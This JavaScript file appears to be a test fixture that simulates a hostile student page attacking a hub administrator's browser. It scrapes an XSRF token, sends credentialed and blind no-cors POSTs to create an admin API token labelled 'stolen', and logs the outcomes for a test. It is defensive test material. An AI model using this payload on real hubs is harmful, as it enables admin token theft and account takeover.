// What a student's page tries, in the admin's browser (tests/test_hub.py): make an API token for the admin, first
// on its own origin, then on the hub's (HUB), reading the XSRF token from a hub page, then blindly. Records what
// happened in window.__hubAttack for the test; the test checks the hub's list of the admin's tokens.
(async () => {
  const attack = (window.__hubAttack = {ran: true, results: []});
  const made = (origin, init) => fetch(origin + "/hub/api/users/ADMIN/tokens", {
    method: "POST", credentials: "include", body: JSON.stringify({note: "stolen"}), ...init});
  for (const origin of [location.origin, "HUB"]) {
    try {
      const page = await (await fetch(origin + "/hub/home", {credentials: "include"})).text();
      const xsrf = (page.match(/xsrf_token: "([^"]*)"/) || [, ""])[1];
      const answer = await made(origin, {headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"}});
      attack.results.push(origin + " " + answer.status);
    } catch (error) {
      attack.results.push(origin + " " + error);
    }
  }
  try {
    await made("HUB", {mode: "no-cors"});
    attack.results.push("HUB no-cors sent");
  } catch (error) {
    attack.results.push("HUB no-cors " + error);
  }
  attack.done = true;
})();
